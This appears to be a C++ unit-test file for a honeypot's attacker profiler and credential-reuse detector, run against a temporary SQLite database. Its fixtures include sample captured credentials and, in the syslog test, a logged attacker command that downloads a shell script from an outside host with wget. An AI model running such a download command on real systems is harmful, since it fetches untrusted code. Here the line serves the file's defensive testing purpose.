// The profiler and the reuse-correlator against a real SQLite database in a temp dir.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <map>
#include <random>

#include "decnet/intel/profiler.h"
#include "decnet/intel/reuse_correlator.h"
#include "decnet/storage/repository.h"

namespace decnet::intel {
namespace {

namespace fs = std::filesystem;

class TempDir {
 public:
  TempDir() {
    char tmpl[] = "/tmp/intel_db_test.XXXXXX";
    path_ = mkdtemp(tmpl);
  }
  ~TempDir() { fs::remove_all(path_); }
  std::string File(const std::string& name) const { return path_ + "/" + name; }

 private:
  std::string path_;
};

std::unique_ptr<storage::Repository> OpenDb(const std::string& path) {
  storage::DbConfig cfg;
  cfg.path = path;
  auto r = storage::Open(cfg);
  if (!r) {
    ADD_FAILURE() << r.error().message;
    return nullptr;
  }
  return std::move(*r);
}

constexpr int64_t kT0us = 1763996400000000;

std::vector<storage::LogRow> Logs(size_t n, int ips, uint32_t seed) {
  std::mt19937 rng(seed);
  std::vector<storage::LogRow> out;
  int64_t t = kT0us;
  const char* types[] = {"connection", "login_attempt",       "command",
                         "request",    "tcp_syn_fingerprint", "download"};
  for (size_t i = 0; i < n; ++i) {
    t += (rng() % 4000) * 1000;
    storage::LogRow r;
    r.ts_us = t;
    const int ip = static_cast<int>(rng() % ips);
    r.attacker_ip = "203.0.113." + std::to_string(ip);
    const int d = static_cast<int>(rng() % 5);
    r.decky = d == 4 ? "decnet-prober" : "decky-0" + std::to_string(d);
    r.service = "svc" + std::to_string(rng() % 3);
    r.event_type = types[rng() % 6];
    r.fields =
        R"({"cmd":"uname -a","headers":"{\"User-Agent\":\"sqlmap/1\"}","os_guess":"Linux","ttl":"64","hop_distance":"5","bytes":")" +
        std::string(rng() % 30 == 0 ? "2000000" : "10") + R"("})";
    r.raw_line = "<134>1 - - - - - -";
    out.push_back(std::move(r));
  }
  return out;
}

struct Published {
  std::vector<std::pair<std::string, std::string>> events;
  Publisher Fn() {
    return [this](std::string_view topic, std::string_view, const std::string& payload) {
      events.emplace_back(std::string(topic), payload);
    };
  }
  size_t Count(std::string_view topic) const {
    size_t n = 0;
    for (const auto& e : events) n += e.first == topic;
    return n;
  }
};

void Drain(Profiler& p) {
  while (true) {
    auto n = p.RunOnce();
    ASSERT_TRUE(n) << n.error().message;
    if (*n == 0) break;
  }
}

// Every column but updated_at.
void ExpectSameRows(storage::Repository& a, storage::Repository& b, int ips) {
  for (int i = 0; i < ips; ++i) {
    const std::string ip = "203.0.113." + std::to_string(i);
    auto ra = a.GetAttacker(ip), rb = b.GetAttacker(ip);
    ASSERT_TRUE(ra && rb);
    ASSERT_EQ(ra->has_value(), rb->has_value()) << ip;
    if (!*ra) continue;
    const storage::AttackerRow &x = **ra, &y = **rb;
    EXPECT_EQ(x.first_seen_us, y.first_seen_us) << ip;
    EXPECT_EQ(x.last_seen_us, y.last_seen_us) << ip;
    EXPECT_EQ(x.event_count, y.event_count) << ip;
    EXPECT_EQ(x.services, y.services) << ip;
    EXPECT_EQ(x.deckies, y.deckies) << ip;
    EXPECT_EQ(x.traversal, y.traversal) << ip;
    EXPECT_EQ(x.is_traversal, y.is_traversal) << ip;
    EXPECT_EQ(x.bounty_count, y.bounty_count) << ip;
    EXPECT_EQ(x.credential_count, y.credential_count) << ip;
    EXPECT_EQ(x.fingerprints, y.fingerprints) << ip;
    EXPECT_EQ(x.commands, y.commands) << ip;
    EXPECT_EQ(x.score, y.score) << ip;
    EXPECT_EQ(x.score_reasons, y.score_reasons) << ip;
    EXPECT_EQ(x.intel_state, y.intel_state) << ip;
    auto ba = a.GetAttackerBehavior(ip), bb = b.GetAttackerBehavior(ip);
    ASSERT_TRUE(ba && bb && *ba && *bb) << ip;
    EXPECT_EQ((*ba)->os_guess, (*bb)->os_guess);
    EXPECT_EQ((*ba)->hop_distance, (*bb)->hop_distance);
    EXPECT_EQ((*ba)->tcp_fingerprint, (*bb)->tcp_fingerprint);
    EXPECT_EQ((*ba)->behavior_class, (*bb)->behavior_class);
    EXPECT_EQ((*ba)->beacon_interval_s, (*bb)->beacon_interval_s);
    EXPECT_EQ((*ba)->beacon_jitter_pct, (*bb)->beacon_jitter_pct);
    EXPECT_EQ((*ba)->tool_guesses, (*bb)->tool_guesses);
    EXPECT_EQ((*ba)->timing_stats, (*bb)->timing_stats);
    EXPECT_EQ((*ba)->phase_sequence, (*bb)->phase_sequence);
  }
}

TEST(intel_Db, ProfilerWritesRowsCountsAndPublishesAfterCommit) {
  TempDir dir;
  auto repo = OpenDb(dir.File("decnet.db"));
  ASSERT_TRUE(repo);
  auto logs = Logs(300, 5, 1);
  ASSERT_TRUE(repo->InsertLogs(logs));
  storage::CredentialRow c;
  c.ts_us = kT0us;
  c.attacker_ip = "203.0.113.1";
  c.decky = "decky-01";
  c.service = "ssh";
  c.username = "root";
  c.secret = "toor";
  ASSERT_TRUE(repo->InsertCredential(c));
  ASSERT_TRUE(repo->InsertCredential(c));
  storage::BountyRow b;
  b.ts_us = kT0us;
  b.attacker_ip = "203.0.113.1";
  b.bounty_type = "fingerprint";
  b.payload = R"({"fingerprint_type":"ja3","ja3":"abc"})";
  ASSERT_TRUE(repo->InsertBounty(b));

  Published pub;
  ProfilerOptions opts;
  opts.batch_rows = 64;
  opts.rows_per_commit = 100;
  Profiler prof(*repo, opts, pub.Fn());
  Drain(prof);
  EXPECT_EQ(prof.stats().rows, 300u);
  EXPECT_EQ(prof.stats().cursor, 300);
  EXPECT_EQ(pub.Count("attacker.observed"), 5u);
  EXPECT_GE(pub.Count("attacker.scored"), 5u);
  auto row = repo->GetAttacker("203.0.113.1");
  ASSERT_TRUE(row && *row);
  EXPECT_EQ((*row)->credential_count, 2);
  EXPECT_EQ((*row)->bounty_count, 1);
  EXPECT_NE((*row)->fingerprints.find("\"ja3\":\"abc\""), std::string::npos);
  EXPECT_NE((*row)->score_reasons.find("credentials captured"), std::string::npos);
  EXPECT_EQ((*row)->deckies.find("decnet-prober"), std::string::npos);  // system host: not a hop
  EXPECT_TRUE((*row)->is_traversal);
  auto beh = repo->GetAttackerBehavior("203.0.113.1");
  ASSERT_TRUE(beh && *beh);
  EXPECT_NE((*beh)->tool_guesses.find("sqlmap"), std::string::npos);
  EXPECT_EQ((*beh)->os_guess, "Linux");
  EXPECT_EQ((*beh)->hop_distance, 5);
  // Nothing new: no writes, no events.
  const size_t before = pub.events.size();
  Drain(prof);
  EXPECT_EQ(pub.events.size(), before);
}

TEST(intel_Db, RestartMidStreamGivesTheSameRows) {
  TempDir dir;
  auto logs = Logs(2000, 12, 2);
  auto whole = OpenDb(dir.File("whole.db"));
  ASSERT_TRUE(whole && whole->InsertLogs(logs));
  {
    Published pub;
    Profiler p(*whole, {}, pub.Fn());
    Drain(p);
  }
  auto split = OpenDb(dir.File("split.db"));
  ASSERT_TRUE(split);
  std::vector<storage::LogRow> first(logs.begin(), logs.begin() + 777),
      rest(logs.begin() + 777, logs.end());
  ASSERT_TRUE(split->InsertLogs(first));
  Published pub;
  {
    ProfilerOptions o;
    o.batch_rows = 100;
    o.rows_per_commit = 150;  // several commits of two reads each
    Profiler p(*split, o, pub.Fn());
    Drain(p);
  }
  split.reset();  // the process is gone
  split = OpenDb(dir.File("split.db"));
  ASSERT_TRUE(split->InsertLogs(rest));
  {
    Profiler p(*split, {}, pub.Fn());
    Drain(p);
    EXPECT_EQ(p.stats().rows, rest.size());  // resumed from the cursor, nothing re-read
  }
  EXPECT_EQ(pub.Count("attacker.observed"), 12u);  // no second first-sighting after the restart
  ExpectSameRows(*whole, *split, 12);
}

TEST(intel_Db, EvictionUnderTheIpBoundKeepsRowsCorrect) {
  TempDir dir;
  auto logs = Logs(3000, 30, 3);
  auto unbounded = OpenDb(dir.File("a.db"));
  auto bounded = OpenDb(dir.File("b.db"));
  ASSERT_TRUE(unbounded && bounded && unbounded->InsertLogs(logs) && bounded->InsertLogs(logs));
  {
    Profiler p(*unbounded, {}, nullptr);
    Drain(p);
  }
  ProfilerOptions o;
  o.engine.max_ips = 4;
  Profiler p(*bounded, o, nullptr);
  Drain(p);
  EXPECT_LE(p.engine().size(), 4u);
  EXPECT_GT(p.engine().stats().evicted, 50u);
  ExpectSameRows(*unbounded, *bounded, 30);
}

TEST(intel_Db, ReuseCountedOnceAndPublishedOncePerFinding) {
  TempDir dir;
  auto repo = OpenDb(dir.File("decnet.db"));
  ASSERT_TRUE(repo);
  auto cred = [&](const char* ip, const char* decky, const char* service, const char* user,
                  const char* secret) {
    storage::CredentialRow c;
    c.ts_us = kT0us;
    c.attacker_ip = ip;
    c.decky = decky;
    c.service = service;
    c.username = user;
    c.secret = secret;
    ASSERT_TRUE(repo->InsertCredential(c));
  };
  cred("198.51.100.1", "decky-01", "ssh", "root", "hunter2");
  cred("198.51.100.1", "decky-01", "ssh", "root", "hunter2");
  cred("198.51.100.2", "decky-02", "ssh", "root", "hunter2");
  cred("198.51.100.3", "decky-01", "ssh", "admin", "solo");  // one target: not reuse
  Published pub;
  ReuseCorrelator rc(*repo, {}, pub.Fn());
  auto n = rc.Tick();
  ASSERT_TRUE(n) << n.error().message;
  EXPECT_EQ(*n, 1u);
  for (int i = 0; i < 3; ++i) {
    auto again = rc.Tick();
    ASSERT_TRUE(again);
    EXPECT_EQ(*again, 0u);  // nothing new: no event
  }
  auto rows = repo->ListCredentialReuse(0, 10);
  ASSERT_TRUE(rows);
  ASSERT_EQ(rows->size(), 1u);
  EXPECT_EQ((*rows)[0].attempt_count, 3);  // counted once, not re-added per tick
  EXPECT_EQ((*rows)[0].target_count, 2);
  cred("198.51.100.4", "decky-03", "ftp", "root", "hunter2");
  auto grown = rc.Tick();
  ASSERT_TRUE(grown);
  EXPECT_EQ(*grown, 1u);
  EXPECT_EQ(pub.Count("credential.reuse.detected"), 2u);
  EXPECT_EQ(pub.events.back().second.find("hunter2"),
            std::string::npos);  // the secret stays off the bus
}

#ifdef INTEL_TEST_SYSLOG
TEST(intel_Db, RawLinesAreReParsedWithTheSyslogComponent) {
  TempDir dir;
  auto repo = OpenDb(dir.File("decnet.db"));
  ASSERT_TRUE(repo);
  storage::LogRow r;
  r.ts_us = 1;  // the columns are deliberately wrong: the raw line is the truth
  r.decky = "x";
  r.service = "x";
  r.event_type = "x";
  r.attacker_ip = "Unknown";
  r.raw_line =
      "<134>1 2025-11-24T15:00:00.5Z decky-07 ssh - command [relay@55555 src_ip=\"2001:db8::7\" "
      "command=\"wget http://198.51.100.9/x.sh\"] CMD wget";
  ASSERT_TRUE(repo->InsertLogs(std::span<const storage::LogRow>(&r, 1)));
  Profiler p(*repo, {}, nullptr);
  Drain(p);
  EXPECT_EQ(p.stats().reparsed, 1u);
  auto row = repo->GetAttacker("2001:db8::7");
  ASSERT_TRUE(row && *row);
  EXPECT_EQ((*row)->deckies, "[\"decky-07\"]");
  EXPECT_EQ((*row)->first_seen_us, 1763996400500000);
  EXPECT_NE((*row)->commands.find("wget http://198.51.100.9/x.sh"), std::string::npos) << (*row)->commands;
}
#endif

}  // namespace
}  // namespace decnet::intel
